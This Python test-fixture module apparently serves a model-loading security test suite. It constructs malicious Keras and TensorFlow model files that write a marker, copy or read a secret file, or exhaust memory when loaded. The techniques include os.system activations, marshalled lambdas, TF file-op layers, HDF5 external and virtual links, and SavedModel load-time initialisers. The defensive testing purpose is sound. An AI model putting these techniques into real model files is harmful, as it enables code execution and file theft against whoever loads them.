"""Whole model files made to do harm: each would leave a marker, show a secret or fill the memory.

Each maker takes a folder, in which `marker` must not appear and `secret` must not be read, and
returns the model. Labels for two classes fit all of them.
"""

import base64
import json
import marshal
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeAlias

import h5py
import numpy as np

from fuzzyvision.bundle.frameworks import keras, silence, tensorflow

Config: TypeAlias = dict[str, Any]
Untyped: TypeAlias = Any


def functional(name: str, settings: Config, arguments: Config | None = None,
               first: str | None = None, **more: Untyped) -> Config:  # fmt: skip
    """Return a model of one more layer, called with `arguments` on its input or on `first`."""
    shape = {"batch_input_shape": [None, 8, 8, 3], "dtype": "float32", "name": "i"}
    entry = {"class_name": "InputLayer", "name": "i", "inbound_nodes": [], "config": shape}
    node = [*(["i", 0, 0] if first is None else ["_CONSTANT_VALUE", -1, first]), arguments or {}]
    layer = {"class_name": name, "name": "l", "config": {"name": "l", **settings},
             "inbound_nodes": [[node] if first is None else node], **more}  # fmt: skip
    ends = {"input_layers": [["i", 0, 0]], "output_layers": [["l", 0, 0]]}
    return {"class_name": "Functional", "config": {"name": "m", "layers": [entry, layer], **ends}}


def hdf5(folder: Path, config: Config, version: str = "2.15.0") -> Path:
    """Write an .h5 file of a configuration, without weights."""
    with h5py.File(folder / "m.h5", "w") as file:
        file.attrs.update(model_config=json.dumps(config), keras_version=version)
        file.attrs["backend"] = "tensorflow"
        file.create_group("model_weights").attrs["layer_names"] = np.array([], dtype="S1")
    return folder / "m.h5"


def archive(folder: Path, config: Config | str, version: str = "3.15.1") -> Path:
    """Write a .keras file of a configuration, without weights."""
    with zipfile.ZipFile(folder / "m.keras", "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("metadata.json", json.dumps({"keras_version": version}))
        file.writestr("config.json", config if isinstance(config, str) else json.dumps(config))
        file.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n")
    return folder / "m.keras"


def writing(folder: Path) -> Config:
    """Return a model of Keras 2 that writes the marker as it is read."""
    marker = str(folder / "marker")
    return functional("TFOpLambda", {"function": "io.write_file"}, {"contents": "harm"}, marker)


def copying(folder: Path) -> Config:
    """Return a model of Keras 2 that copies the secret as it is read."""
    secret, marker = str(folder / "secret"), str(folder / "marker")
    return functional("TFOpLambda", {"function": "io.gfile.copy"}, {"dst": marker}, secret)


def marshalled(folder: Path) -> Config:
    """Return a model whose layer is program code."""
    code = marshal.dumps(compile(f"open({str(folder / 'marker')!r}, 'w')", "<layer>", "eval"))
    text = base64.b64encode(code).decode()
    return functional("Lambda", {"function": [text, None, None], "function_type": "lambda"})


def calling(name: str, module: str) -> Config:
    """Return a model of Keras 3 whose activation is a function of a module."""
    function = {"class_name": "function", "config": name, "module": module,
                "registered_name": name}  # fmt: skip
    return functional("Activation", {"activation": function}, module="keras.layers")


def network() -> Untyped:
    """Return a small classifier of Keras 3."""
    layers = keras().layers
    entry = layers.Input((8, 8, 3))
    return keras().Sequential([entry, layers.Flatten(), layers.Dense(2, activation="softmax")])


def with_weight(folder: Path, put: Callable[[Untyped, str], object]) -> Path:
    """Write a model of Keras 3 as .h5 and put something else in the place of its bias."""
    with silence():
        network().save(folder / "m.h5")
    with h5py.File(folder / "m.h5", "a") as file:
        found: list[str] = []
        file.visit(lambda name: found.append(name) if name.endswith("/bias") else None)
        del file[found[0]]
        put(file, found[0])
    return folder / "m.h5"


def linked(folder: Path) -> Path:
    """Show another HDF5 file's numbers as a weight."""
    with h5py.File(folder / "secret", "w") as file:
        file["w"] = np.ones(2, dtype="<f4")
    link = h5py.ExternalLink(folder / "secret", "w")
    return with_weight(folder, lambda file, name: file.__setitem__(name, link))


def stored_outside(folder: Path) -> Path:
    """Show any file's bytes as a weight."""
    (folder / "secret").write_bytes(b"password")
    place = [(str(folder / "secret"), 0, 8)]
    return with_weight(
        folder, lambda file, name: file.create_dataset(name, (2,), "<f4", external=place)
    )


def virtual(folder: Path) -> Path:
    """Show another HDF5 file's numbers as a weight, by a virtual dataset (CVE-2026-1669)."""
    with h5py.File(folder / "secret", "w") as file:
        file["w"] = np.ones(2, dtype="<f4")
    layout = h5py.VirtualLayout((2,), "<f4")
    layout[:] = h5py.VirtualSource(str(folder / "secret"), "w", (2,))
    return with_weight(folder, lambda file, name: file.create_virtual_dataset(name, layout))


def saved(folder: Path, harm: Callable[[Untyped], Untyped], *, as_it_loads: bool = False) -> Path:
    """Write a SavedModel that runs `harm` when it answers, or as it is loaded."""
    tf = tensorflow()

    class Table(tf.saved_model.experimental.TrackableResource):  # type: ignore[misc, name-defined]  # no types
        def _create_resource(self) -> Untyped:
            return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

        def _initialize(self) -> None:
            harm(tf)

    def answer(picture: Untyped) -> Untyped:
        with tf.control_dependencies([] if as_it_loads else [harm(tf)]):
            return tf.nn.softmax(picture[:, 0, 0, :2])

    module = tf.Module()
    if as_it_loads:
        module.table = Table()
    spec = tf.TensorSpec((None, 8, 8, 3), tf.float32)
    module.answer = tf.function(answer, input_signature=[spec], autograph=False)
    with silence():
        tf.saved_model.save(module, str(folder / "m"), {"serving_default": module.answer})
    (folder / "marker").unlink(missing_ok=True)  # which saving made
    return folder / "m"


def printing(folder: Path) -> Callable[[Untyped], Untyped]:
    """Return what writes the marker by printing."""
    stream = f"file://{folder / 'marker'}"
    return lambda tf: tf.raw_ops.PrintV2(input="harm", output_stream=stream)


def writing_file(folder: Path) -> Callable[[Untyped], Untyped]:
    """Return what writes the marker."""
    return lambda tf: tf.io.write_file(str(folder / "marker"), "harm")


MAKERS: dict[str, Callable[[Path], Path]] = {
    "a file written by a .h5": lambda folder: hdf5(folder, writing(folder)),
    "a file written by a .keras of Keras 2": lambda folder: archive(
        folder, writing(folder), "2.15.0"),
    "a secret copied": lambda folder: hdf5(folder, copying(folder)),
    "a marshalled function in a .h5": lambda folder: hdf5(folder, marshalled(folder)),
    "a marshalled function in a .keras": lambda folder: archive(folder, marshalled(folder)),
    "os.system": lambda folder: archive(folder, calling("system", "os")),
    "get_file": lambda folder: archive(folder, calling("get_file", "keras.utils")),
    "a SavedModel in a layer": lambda folder: archive(
        folder, functional("TFSMLayer", {"filepath": str(folder)}, module="keras.layers")),
    "a layer of 10**9 units": lambda folder: archive(
        folder, functional("Dense", {"units": 10**9}, module="keras.layers")),
    "a config of 70 MB": lambda folder: archive(folder, " " * 70_000_000),
    "an external link": linked,
    "external storage": stored_outside,
    "a virtual dataset": virtual,
    "a file written by an answer": lambda folder: saved(folder, writing_file(folder)),
    "a file read by an answer": lambda folder: saved(
        folder, lambda tf: tf.io.read_file(str(folder / "secret"))),
    "a file printed by a load": lambda folder: saved(folder, printing(folder), as_it_loads=True),
}  # fmt: skip
